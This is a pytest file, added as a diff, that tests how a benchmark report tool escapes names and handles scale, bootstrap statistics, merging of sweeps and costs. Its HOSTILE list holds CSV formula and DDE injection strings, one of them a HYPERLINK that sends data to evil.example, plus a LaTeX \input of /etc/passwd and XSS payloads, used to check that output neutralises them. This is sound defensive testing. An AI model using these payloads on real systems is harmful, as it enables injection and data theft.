@@ -1,0 +1,320 @@
+"""`report` for whoever reads it: hostile names stay text in CSV, LaTeX, Markdown and HTML; a 20,000-row sweep
+reports in seconds; several sweeps read the same in any order; every mean says n of planned; the paper's
+syntax-error rate; what a study cost whether its answers came from the cache or not."""
+
+import csv
+import io
+import json
+import math
+import re
+import sys
+from pathlib import Path
+
+import numpy as np
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from scipy import stats
+
+from autonesy.graph.report import BOOTSTRAP_RESAMPLES, BOOTSTRAP_SEED, ReportError, bootstrap_ci, build_report
+from autonesy.graph.results import ROW_FIELDS
+from autonesy.tools.table_cells import csv_cell, latex_text, markdown_text
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "benchmarks"))
+from report_scale import make_sweep  # noqa: E402
+
+LLM = "http://h:8000/v1@qwen3-8b"
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "^^5cinput^^7b/etc/passwd^^7d",
+    "\\input{/etc/passwd}",
+    "& % $ # _ { } ~ ^ \\",
+    "<img src=x onerror=alert(1)>",
+    "a|b",
+    "[click](javascript:alert(1))",
+    "line\nbreak",
+    "pkg/name",
+]
+
+
+def row(llm, *, attempt, status="accepted", f1=1.0, failure=None, fmt="nat", task="fashion", prompt="zs", **more):
+    data = dict.fromkeys(ROW_FIELDS)
+    rejected = status == "rejected"
+    data.update(
+        attempt_id=attempt,
+        task=task,
+        task_spec=task,
+        benchmark="catalogue",
+        num_vars=10,
+        llm=llm,
+        model=llm.rsplit("@", 1)[-1],
+        format=fmt,
+        prompt=prompt,
+        detail="detailed",
+        policy=prompt,
+        decoding="free",
+        repeat=0,
+        max_repairs=5,
+        status=status,
+        failure=failure if status != "accepted" else None,
+        syntax_error=rejected and failure not in ("empty_answer",),
+        repair_rounds=0,
+        autofixes=[],
+        n_autofixes=0,
+        llm_calls=1,
+        cached_calls=0,
+        prompt_tokens=100,
+        completion_tokens=50,
+        llm_seconds=1.0,
+        f1=f1 if status in ("accepted", "rejected") else None,
+        relation="equal" if status == "accepted" else None,
+        run_dir=f"attempts/{attempt}",
+    )
+    data.update(more)
+    return data
+
+
+def sweep(folder: Path, rows) -> Path:
+    folder.mkdir(parents=True)
+    (folder / "results.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
+    return folder
+
+
+def tables(report):
+    return {t.name: t for t in report.tables}
+
+
+# ------------------------------------------------------------------------------ escaping
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_csv_cell_never_starts_a_formula_and_numbers_stay_numbers(name):
+    cell = csv_cell(name)
+    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) or cell == name  # unchanged: harmless
+    assert cell.lstrip("'") == name.replace("\r", "\n")
+    assert csv_cell(-0.25) == -0.25 and csv_cell("-0.25") == "-0.25" and csv_cell(7) == 7 and csv_cell(None) is None
+    assert csv_cell("-inf") == "'-inf" and csv_cell("=1") == "'=1" and csv_cell("x=1") == "x=1"
+
+
+@given(st.text())
+def test_latex_text_leaves_no_special_character_live(text):
+    escaped = latex_text(text)
+    # every special character is preceded by a backslash or inside one of our commands; no raw ^ or ~ or newline
+    assert "^" not in escaped and "~" not in escaped and "\n" not in escaped and "\r" not in escaped
+    bare = re.sub(r"\\(textbackslash|textasciitilde|textasciicircum)\{\}|\\[&%$#_{}]|\$\\pm\$|\$\\Delta\$", "", escaped)
+    assert not set(bare) & set("&%$#_{}\\")
+
+
+@given(st.text())
+def test_markdown_text_holds_no_tag_no_column_break_and_no_link(text):
+    escaped = markdown_text(text)
+    assert "<" not in escaped and ">" not in escaped and "\n" not in escaped
+    assert "|" not in escaped.replace("\\|", "") and "[" not in escaped.replace("\\[", "")
+
+
+def test_hostile_names_stay_text_in_every_report_file(tmp_path):
+    rows = []
+    for i, name in enumerate(HOSTILE):
+        rows.append(row(f"http://h/v1@{name}", attempt=f"a{i}", task=name, prompt=name))
+        rows.append(row(f"http://h/v1@{name}", attempt=f"b{i}", status="infra_failed", failure="connection", task=name))
+    folder = sweep(tmp_path / "sweep", rows)
+    out = tmp_path / "report"
+    build_report([folder], out, plots=False)
+    for path in out.glob("*.csv"):
+        with open(path, newline="") as file:  # as a spreadsheet reads it: a carriage return ends a row
+            text = file.read()
+        assert "\r" not in text  # a lone carriage return, unquoted by Python's writer, would start a row
+        for record in csv.reader(io.StringIO(text, newline="")):
+            for cell in record:
+                assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
+                assert not cell.startswith("-") or re.fullmatch(r"-[\d.e+-]+", cell), (path.name, cell)
+    for path in out.glob("*.tex"):
+        text = path.read_text()
+        assert "^" not in text and "\\input" not in text.replace("\\textbackslash{}input", ""), path.name
+        assert "<img" in text  # LaTeX has no HTML: shown as it is, harmless there
+    for path in out.glob("*.md"):
+        text = path.read_text()
+        assert "<img" not in text and "&lt;img src=x onerror=alert(1)&gt;" in text, path.name
+        assert not re.search(r"(?<!\\)\]\(javascript:", text)  # a link's brackets are escaped
+        for line in text.splitlines():  # every table line has as many cells as its header
+            if line.startswith("|"):
+                assert len(re.split(r"(?<!\\)\|", line)) == len(re.split(r"(?<!\\)\|", text.split("\n")[2])), line
+    by_llm = (out / "by_llm.md").read_text()
+    assert "pkg/name" in by_llm  # a plugin's name shows as it is
+
+
+def test_hostile_names_stay_escaped_in_the_html_pages(tmp_path):
+    from autonesy.graph.view.export import export_html
+
+    rows = [row(f"http://h/v1@{name}", attempt=f"a{i}", task=name) for i, name in enumerate(HOSTILE)]
+    folder = sweep(tmp_path / "sweep", rows)
+    index = export_html([folder], tmp_path / "html")
+    pages = "".join(p.read_text() for p in index.parent.rglob("*.html"))
+    assert "<img src=x" not in pages and "&lt;img src=x onerror=alert(1)&gt;" in pages
+
+
+# --------------------------------------------------------------------------------- scale
+def _report_at_scale(tmp_path, rows: int, llms: int) -> None:
+    make_sweep(tmp_path / "big", rows, llms)
+    report = build_report([tmp_path / "big"], tmp_path / "r", plots=False)
+    by_llm = tables(report)["by_llm"]
+    assert len(by_llm.rows) == llms  # every LLM keeps its row
+    assert sum(r["planned"] for r in by_llm.data) == rows
+    assert sum(r["attempts"] for r in by_llm.data) == report.counted
+
+
+@pytest.mark.timeout(120)  # generous: the quadratic report took minutes at this size (2,000 rows: 89 s)
+def test_a_report_over_3000_rows_and_300_llms_finishes(tmp_path):
+    _report_at_scale(tmp_path, 3_000, 300)
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(300)  # generous: 15 s of CPU here; quadratic, it ran past 100 s
+def test_a_report_over_20000_rows_and_2000_llms_finishes(tmp_path):
+    _report_at_scale(tmp_path, 20_000, 2_000)
+
+
+@settings(max_examples=60, deadline=None)
+@given(
+    st.lists(st.floats(0, 1, allow_nan=False), min_size=2, max_size=40)
+    | st.lists(st.sampled_from([0.0, 1.0]), min_size=2, max_size=40)
+)
+def test_the_bootstrap_interval_is_scipys(values):
+    data = np.asarray(values)
+    expected = stats.bootstrap(
+        (data,),
+        np.mean,
+        n_resamples=BOOTSTRAP_RESAMPLES,
+        confidence_level=0.95,
+        method="percentile",
+        random_state=np.random.default_rng(BOOTSTRAP_SEED),
+        vectorized=True,
+    ).confidence_interval
+    low, high = bootstrap_ci(values)
+    if np.all(data == data[0]):
+        assert low == high == data[0]
+    else:
+        assert low == pytest.approx(expected.low, abs=1e-12) and high == pytest.approx(expected.high, abs=1e-12)
+
+
+def test_a_large_group_is_resampled_in_chunks_with_the_same_interval():
+    values = np.random.default_rng(0).random(3000)  # 2000 × 3000 resampled values would be 48 MB at once
+    expected = stats.bootstrap(
+        (values,),
+        np.mean,
+        n_resamples=BOOTSTRAP_RESAMPLES,
+        method="percentile",
+        random_state=np.random.default_rng(BOOTSTRAP_SEED),
+    ).confidence_interval
+    assert bootstrap_ci(values) == pytest.approx((expected.low, expected.high), abs=1e-12)
+
+
+# ------------------------------------------------------------------------- several sweeps
+def test_reading_a_partial_sweep_and_its_rerun_is_the_same_in_either_order(tmp_path):
+    # the partial sweep: attempt 1 failed on infrastructure, attempt 2 was never run; the rerun has both finished
+    partial = sweep(
+        tmp_path / "partial",
+        [
+            row(LLM, attempt="a1", status="infra_failed", failure="connection"),
+            row(LLM, attempt="a2", status="pending"),
+            row(LLM, attempt="a3", f1=0.5),
+        ],
+    )
+    rerun = sweep(
+        tmp_path / "rerun",
+        [
+            row(LLM, attempt="a1", f1=1.0),
+            row(LLM, attempt="a2", status="rejected", f1=0.0, failure="syntax"),
+            row(LLM, attempt="a3", f1=0.5, wall_seconds=9.0),  # the same outcome, another timing
+        ],
+    )
+    one = build_report([partial, rerun], tmp_path / "ab", plots=False)
+    two = build_report([rerun, partial], tmp_path / "ba", plots=False)
+    for name in ("by_llm", "by_setting", "per_task", "cost_by_llm"):
+        assert (tmp_path / "ab" / f"{name}.csv").read_text() == (tmp_path / "ba" / f"{name}.csv").read_text()
+    [record] = tables(one)["by_llm"].data
+    assert record["attempts"] == 3 and record["infra_failed"] == 0  # the complete outcome of each attempt
+    assert record["f1_mean"] == pytest.approx((1.0 + 0.0 + 0.5) / 3)
+    assert sorted(one.merged) == sorted(two.merged) and len(one.merged) == 3
+    assert f"kept accepted from {rerun} over {partial} (infra_failed)" in one.merged
+    assert "attempts read more than once, the most complete outcome kept" in one.render("md")
+
+
+def test_two_different_finished_outcomes_of_one_attempt_are_refused_with_one_line(tmp_path):
+    a = sweep(tmp_path / "a", [row(LLM, attempt="x1", f1=1.0)])
+    b = sweep(tmp_path / "b", [row(LLM, attempt="x1", status="rejected", f1=0.0, failure="syntax")])
+    for order in ([a, b], [b, a]):
+        with pytest.raises(ReportError, match=r"attempt x1 has different") as error:
+            build_report(order, tmp_path / "r", plots=False)
+        assert str(a) in str(error.value) and str(b) in str(error.value) and "\n" not in str(error.value)
+
+
+# ------------------------------------------------------------------- tables that do not mislead
+def test_an_llm_with_only_infrastructure_failures_keeps_its_row_in_every_table(tmp_path):
+    down = "http://down/v1@broken-model"
+    rows = [row(LLM, attempt="a", f1=1.0), row(LLM, attempt="b", f1=0.5, fmt="dimacs")]
+    rows += [
+        row(down, attempt=f"d{i}", status="infra_failed", failure="connection", fmt=f)
+        for i, f in enumerate(("nat", "dimacs"))
+    ]
+    report = build_report([sweep(tmp_path / "s", rows)], tmp_path / "r", plots=False)
+    found = tables(report)
+    broken = {r["llm"]: r for r in found["by_llm"].data}[down]
+    assert broken["attempts"] == 0 and broken["planned"] == 2 and broken["infra_failed"] == 2
+    assert math.isnan(broken["f1_mean"])
+    for name in ("by_setting", "by_llm", "per_task", "cost_by_llm"):
+        assert any("broken-model" in " ".join(cells) for cells in found[name].rows), name
+    assert "| broken-model (http://down/v1@broken-model) | 0 of 2 | 2 |" in found["by_llm"].markdown()
+
+
+def test_the_syntax_error_rate_is_the_papers_with_budget_cuts_and_outages_apart(tmp_path):
+    rows = [
+        row(LLM, attempt="ok", f1=1.0),
+        row(LLM, attempt="syn", status="rejected", f1=0.0, failure="syntax"),
+        row(LLM, attempt="rep", status="rejected", f1=0.0, failure="repeated_answer"),
+        row(LLM, attempt="cut1", status="rejected", f1=0.0, failure="token_budget"),
+        row(LLM, attempt="cut2", status="rejected", f1=0.0, failure="token_budget"),
+        row(LLM, attempt="empty", status="rejected", f1=0.0, failure="empty_answer"),
+        row(LLM, attempt="down", status="infra_failed", failure="rate_limit"),
+    ]
+    report = build_report([sweep(tmp_path / "s", rows)], tmp_path / "r", plots=False)
+    [record] = tables(report)["by_llm"].data
+    # 6 answers counted: 2 still do not parse (syntax, repeated), 2 cut by the budget, 1 empty; the outage counts in none
+    assert record["attempts"] == 6 and record["planned"] == 7 and record["infra_failed"] == 1
+    assert record["syntax_error_rate"] == pytest.approx(2 / 6)
+    assert record["token_budget_rate"] == pytest.approx(2 / 6) and record["empty_answer_rate"] == pytest.approx(1 / 6)
+
+
+def test_would_cost_adds_what_the_cached_answers_cost_when_they_were_made(tmp_path):
+    config = tmp_path / "server.toml"
+    config.write_text(
+        '[llm]\nbase_url = "http://127.0.0.1:9/v1"\nmodel = "m"\nprompt_price_per_mtok = 1.0\n'
+        "completion_price_per_mtok = 2.0\n"
+    )
+    rows = [
+        row(str(config), attempt="sent", prompt_tokens=100, completion_tokens=50),
+        row(
+            str(config),
+            attempt="cached",
+            llm_calls=0,
+            cached_calls=1,
+            prompt_tokens=0,
+            completion_tokens=0,
+            llm_seconds=0.0,
+            cached_prompt_tokens=120,
+            cached_completion_tokens=30,
+            cached_llm_seconds=2.5,
+        ),
+    ]
+    report = build_report([sweep(tmp_path / "s", rows)], tmp_path / "r", plots=False)
+    [cost] = tables(report)["cost_by_llm"].data
+    assert (cost["prompt_tokens"], cost["completion_tokens"]) == (100, 50)
+    assert (cost["would_cost_prompt_tokens"], cost["would_cost_completion_tokens"]) == (220, 80)
+    assert cost["cached_calls"] == 1 and cost["cost"] == pytest.approx((100 * 1.0 + 50 * 2.0) / 1e6)
+    assert cost["would_cost"] == pytest.approx((220 * 1.0 + 80 * 2.0) / 1e6)
+    [llm] = tables(report)["by_llm"].data
+    assert llm["tokens_mean"] == (150 + 150) / 2 and llm["llm_seconds_mean"] == (1.0 + 2.5) / 2
